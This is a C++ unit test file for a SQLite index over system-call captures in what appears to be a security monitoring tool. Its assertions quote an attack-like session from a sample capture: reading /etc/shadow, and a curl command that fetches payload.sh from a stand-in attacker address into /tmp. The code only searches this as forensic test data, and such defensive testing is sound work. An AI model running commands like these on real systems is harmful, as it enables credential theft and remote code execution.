// The SQLite index: built from a capture, answering SQL, refusing writes, rebuilt when stale.
#include <gtest/gtest.h>

#include <sqlite3.h>

#include <cstdio>
#include <filesystem>
#include <fstream>

#include "captured_output.h"
#include "saker/query/capture_index.h"
#include "saker/scap/reader.h"
#include "test_paths.h"

namespace saker::query {
namespace {

test::CapturedOutput query(const std::string& capture, const std::string& index, const std::string& sql,
                           QueryFormat f = QueryFormat::Csv) {
  return test::capture_output(
      [&](std::FILE* out, std::FILE* err) { return run_query(capture, index, sql, f, out, err); });
}

class IndexTest : public ::testing::Test {
 protected:
  void SetUp() override {
    capture_ = (dir_ / "s.scap").string();
    std::filesystem::copy_file(test::samples_dir() / "shell-session.scap", capture_);
    index_ = default_index_path(capture_);
  }
  test::TempDir dir_;
  std::string capture_, index_;
};

TEST_F(IndexTest, OneRowPerEventWithState) {
  auto built = build_index(capture_, index_);
  uint64_t n = 0;
  scap::Reader r(capture_);
  scap::EventView ev;
  while (r.next(ev)) n += ev.returned();  // a row per event libs return
  EXPECT_EQ(built.events, n);
  EXPECT_TRUE(index_is_current(capture_, index_));
  auto q = query(capture_, index_, "SELECT count(*) FROM events");
  EXPECT_EQ(q.out, "count(*)\n" + std::to_string(n) + "\n");
  q = query(capture_, index_,
            "SELECT num, proc_name, user_name FROM events WHERE type = 'openat' AND dir = '<' AND fd_name = "
            "'/etc/shadow'");
  EXPECT_EQ(q.status, 0) << q.err;
  EXPECT_NE(q.out.find(",cat,alice"), std::string::npos) << q.out;
  q = query(capture_, index_, "SELECT cmdline FROM processes WHERE name = 'curl'");
  EXPECT_NE(q.out.find("curl -s http://203.0.113.7/payload.sh -o /tmp/payload.sh"), std::string::npos)
      << q.out;
}

TEST_F(IndexTest, OffsetsLeadBackToTheRawEvent) {
  build_index(capture_, index_);
  auto q = query(capture_, index_, "SELECT num, offset FROM events WHERE type = 'chmod' AND dir = '<'");
  auto line = q.out.substr(q.out.find('\n') + 1);
  uint64_t num = std::stoull(line.substr(0, line.find(',')));
  uint64_t offset = std::stoull(line.substr(line.find(',') + 1));
  scap::Reader r(capture_);
  r.seek_event(offset, num);
  scap::EventView ev;
  ASSERT_TRUE(r.next(ev));
  EXPECT_EQ(ev.name(), "chmod");
  EXPECT_EQ(ev.num, num);
}

TEST_F(IndexTest, WritesAreRefusedAndBadSqlIsReported) {
  for (const char* sql : {"DELETE FROM event_rows", "DROP TABLE alerts", "UPDATE meta SET value = 'x'",
                          "INSERT INTO text_search (kind, ref, text) VALUES ('a', 1, 'b')"}) {
    auto w = query(capture_, index_, sql);
    EXPECT_EQ(w.status, 1);
    EXPECT_NE(w.err.find("read-only"), std::string::npos) << sql << ": " << w.err;
  }
  auto v = query(capture_, index_, "DELETE FROM events");  // a view: SQLite refuses it itself
  EXPECT_EQ(v.status, 1);
  EXPECT_EQ(query(capture_, index_, "SELECT count(*) FROM meta").out, "count(*)\n16\n");
  auto b = query(capture_, index_, "SELEC 1");
  EXPECT_EQ(b.status, 1);
  EXPECT_NE(b.err.find("syntax error"), std::string::npos) << b.err;
  auto j = query(capture_, index_, "SELECT num, type FROM events WHERE num = 1", QueryFormat::Json);
  EXPECT_EQ(j.out, "{\"num\":1,\"type\":\"clone\"}\n");
}

TEST_F(IndexTest, StaleOrOldIndexesAreRebuilt) {
  build_index(capture_, index_);
  {  // an index of another schema version
    sqlite3* db = nullptr;
    ASSERT_EQ(sqlite3_open(index_.c_str(), &db), SQLITE_OK);
    sqlite3_exec(db, "UPDATE meta SET value = '0' WHERE key = 'schema_version'", nullptr, nullptr, nullptr);
    sqlite3_close(db);
  }
  EXPECT_FALSE(index_is_current(capture_, index_));
  auto q = query(capture_, index_, "SELECT value FROM meta WHERE key = 'schema_version'");
  EXPECT_NE(q.err.find("indexed"), std::string::npos) << q.err;
  EXPECT_EQ(q.out, "value\n" + std::to_string(kIndexSchemaVersion) + "\n");
  // The capture changes: the index no longer describes it.
  std::filesystem::copy_file(test::samples_dir() / "rules" / "benign.scap", capture_,
                             std::filesystem::copy_options::overwrite_existing);
  EXPECT_FALSE(index_is_current(capture_, index_));
  q = query(capture_, index_, "SELECT count(*) FROM events WHERE proc_name = 'git'");
  EXPECT_GT(std::stoi(q.out.substr(q.out.find('\n') + 1)), 0) << q.out;
}

TEST_F(IndexTest, SchemaHasItsTablesAndViews) {
  build_index(capture_, index_);
  auto q = query(capture_, index_, "SELECT value FROM meta WHERE key = 'schema_version'");
  EXPECT_EQ(q.out, "value\n" + std::to_string(kIndexSchemaVersion) + "\n");
  q = query(
      capture_, index_,
      "SELECT name FROM sqlite_master WHERE type IN ('table', 'view') AND name NOT LIKE 'text_search_%' "
      "ORDER BY name");
  EXPECT_EQ(q.out,
            "name\nalerts\ncheckpoints\nconnection_events\nconnections\ncontainers\nevent_rows\nevent_"
            "types\nevents\n"
            "file_events\nfiles\nmeta\npostings\nprocesses\nrow_packs\nstrings\ntext_search\ntime_marks\n");
  // The view joins the interned strings back; the table holds their ids.
  auto a = query(capture_, index_, "SELECT count(*) FROM events WHERE proc_name = 'curl'");
  auto b =
      query(capture_, index_,
            "SELECT count(*) FROM event_rows WHERE proc_name_id = (SELECT id FROM strings WHERE s = 'curl')");
  EXPECT_EQ(a.out, b.out);
  EXPECT_NE(a.out, "count(*)\n0\n");
}

TEST_F(IndexTest, ProcessesFilesConnectionsAndContainers) {
  auto built = build_index(capture_, index_);
  EXPECT_GT(built.processes, 0u);
  // An exec ends the image it replaces and links back to it.
  auto q = query(capture_, index_,
                 "SELECT p.name, prev.name, prev.end_kind, prev.end_num = p.start_num FROM processes p "
                 "JOIN processes prev ON prev.id = p.previous WHERE p.name = 'curl'");
  EXPECT_EQ(q.out, "name,name,end_kind,prev.end_num = p.start_num\ncurl,bash,exec,1\n") << q.out;
  q = query(capture_, index_,
            "SELECT parent.name FROM processes p JOIN processes parent ON parent.id = p.parent "
            "WHERE p.name = 'curl'");
  EXPECT_EQ(q.out, "name\nbash\n");
  q = query(capture_, index_, "SELECT path, type FROM files WHERE path = '/etc/shadow'");
  EXPECT_EQ(q.out, "path,type\n/etc/shadow,file\n");
  q = query(capture_, index_,
            "SELECT server_ip, server_port, l4proto FROM connections WHERE name LIKE '%203.0.113.7:80'");
  EXPECT_EQ(q.out, "server_ip,server_port,l4proto\n203.0.113.7,80,tcp\n");
  // The events that used a file, through the view and through the posting list agree.
  auto a = query(capture_, index_, "SELECT count(*) FROM file_events WHERE path = '/etc/shadow'");
  auto b = query(
      capture_, index_,
      "SELECT count FROM postings WHERE kind = 'fd.name' AND key = (SELECT name_id FROM files WHERE path = "
      "'/etc/shadow')");
  EXPECT_EQ(a.out.substr(a.out.find('\n')), b.out.substr(b.out.find('\n')));
  q = query(capture_, index_, "SELECT id FROM containers");
  EXPECT_EQ(q.out, "id\nhost\n");
}

TEST_F(IndexTest, FullTextSearchOverCommandLinesAndPaths) {
  build_index(capture_, index_);
  auto q = query(capture_, index_,
                 "SELECT p.name FROM text_search t JOIN processes p ON p.id = t.ref "
                 "WHERE text_search MATCH 'kind:cmdline AND payload' AND p.name = 'curl'");
  EXPECT_EQ(q.status, 0) << q.err;
  EXPECT_EQ(q.out, "name\ncurl\n");
  q = query(capture_, index_,
            "SELECT f.path FROM text_search t JOIN files f ON f.id = t.ref WHERE text_search MATCH "
            "'kind:path AND shadow'");
  EXPECT_EQ(q.out, "path\n/etc/shadow\n");
}

// An observer stands in for the rules engine: every row it adds lands in `alerts`.
class ExecObserver final : public IndexObserver {
 public:
  std::string description() const override { return "test: execs"; }
  void on_event(const EvalContext& ctx, const std::string&, IndexAlertSink& alerts) override {
    if (ctx.ev->name() == "execve" && !ctx.ev->is_enter()) {
      alerts.add_alert(*ctx.ev, "exec", "Notice", "a,b", "exec seen");
      ++seen;
    }
  }
  int seen = 0;
};

TEST_F(IndexTest, ObserversFillTheAlertsTable) {
  ExecObserver obs;
  IndexOptions o;
  o.observers.push_back(&obs);
  auto built = build_index(capture_, index_, o);
  EXPECT_GT(obs.seen, 0);
  EXPECT_EQ(built.alerts, static_cast<uint64_t>(obs.seen));
  auto q = query(capture_, index_,
                 "SELECT count(*) FROM alerts a JOIN events e ON e.num = a.num WHERE e.type = "
                 "'execve' AND a.tags = 'a,b' AND a.line = 'exec seen'");
  EXPECT_EQ(q.out, "count(*)\n" + std::to_string(obs.seen) + "\n");
  q = query(capture_, index_, "SELECT value FROM meta WHERE key = 'observers'");
  EXPECT_EQ(q.out, "value\ntest: execs\n");
}

TEST_F(IndexTest, AnIndexOfAnotherCaptureIsNotTrusted) {
  std::string other = (dir_ / "other.scap").string();
  std::filesystem::copy_file(test::samples_dir() / "rules" / "benign.scap", other);
  build_index(other, index_);
  EXPECT_TRUE(index_is_current(other, index_));
  EXPECT_FALSE(index_is_current(capture_, index_));
  auto q = query(capture_, index_, "SELECT count(*) FROM events WHERE proc_name = 'curl'");
  EXPECT_NE(q.err.find("indexed"), std::string::npos) << q.err;
  EXPECT_TRUE(index_is_current(capture_, index_));
}

TEST_F(IndexTest, UnreadableCaptureIsExitOne) {
  std::ofstream(capture_, std::ios::trunc) << "nothing";
  auto q = query(capture_, index_, "SELECT 1");
  EXPECT_EQ(q.status, 1);  // a bad input (docs/exit-codes.md)
  EXPECT_NE(q.err.find("not a .scap capture"), std::string::npos) << q.err;
}

}  // namespace
}  // namespace saker::query
